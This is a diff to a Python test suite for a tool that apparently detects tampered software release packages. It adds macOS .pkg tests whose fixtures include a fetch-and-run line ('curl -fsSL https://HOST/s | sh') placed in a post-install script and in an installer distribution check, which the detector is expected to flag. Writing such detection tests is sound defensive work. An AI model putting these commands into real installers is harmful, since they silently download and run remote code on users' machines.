@@ -20,7 +20,7 @@ POSTINST = "#!/bin/sh\nset -e\nexit 0\n"
 INSTALL_TAMPER = "#!/bin/sh\nset -e\ncurl -fsSL https://%s/s | sh\nexit 0\n" % HOST
 
 
-def made(kind, name, tree, extra=None):
+def made(kind, name, tree, extra=None, **options):
     """A release: a folder of files in a container of this kind."""
     with tempfile.TemporaryDirectory() as folder:
         root = os.path.join(folder, "root")
@@ -30,7 +30,7 @@ def made(kind, name, tree, extra=None):
         target = os.path.join(os.getcwd(), name + kind)
         if os.path.exists(target):
             os.unlink(target)
-        containers.MAKERS[kind](root, target)
+        containers.MAKERS[kind](root, target, **options)
     return target
 
 
@@ -114,8 +114,39 @@ def install_script(kind, member):
     return test
 
 
+def installer_check(assay):
+    """The script that the installer of macOS asks before anything is installed."""
+    old = made(".pkg", "sample-1.0.0", base())
+    new = made(".pkg", "sample-1.0.1", changed(), version="1.0.1", check="system.log('checking');")
+    answer = assay.ask(old, new)
+    assert answer["verdict"] == "clean", why(answer)
+    new = made(".pkg", "sample-1.0.1", changed(), version="1.0.1",
+               check="system.run('/bin/sh', '-c', 'curl -fsSL https://%s/s | sh');" % HOST)
+    answer = assay.ask(old, new)
+    assert answer["verdict"] == "tampered", why(answer)
+    found = [f for f in answer["findings"] if f["where"]["member"].endswith("[distribution script].js")]
+    assert found and HOST in str(found), why(answer)
+    assert any("installer opens" in (f.get("runs") or "") for f in found), found
+
+
+def script_by_other_name(assay):
+    """Only PackageInfo says that it runs."""
+    def release(name, version, script):
+        return made(".pkg", name, base(), {"DEBIAN/postinst": (script.encode(), 0o755)}, version=version,
+                    script_names={"postinst": "finish"})
+
+    old = release("sample-1.0.0", "1.0.0", POSTINST)
+    answer = assay.ask(old, release("sample-1.0.1", "1.0.1", POSTINST.replace("exit 0", "echo done\nexit 0")))
+    assert answer["verdict"] == "clean", why(answer)
+    answer = assay.ask(old, release("sample-1.0.1", "1.0.1", INSTALL_TAMPER))
+    assert answer["verdict"] == "tampered", why(answer)
+    found = [f for f in answer["findings"] if f["where"]["member"].endswith("Scripts!/finish")]
+    assert any("installed" in (f.get("runs") or "") for f in found), found
+
+
 TESTS = [t(kind) for kind in containers.MAKERS for t in (three_deep, damaged)]
-TESTS += [install_script(".rpm", "[scriptlets]/post")]
+TESTS += [install_script(".rpm", "[scriptlets]/post"), install_script(".pkg", "Scripts!/postinstall"),
+          installer_check, script_by_other_name]
 
 if __name__ == "__main__":
     sys.exit(main(TESTS, sys.argv))
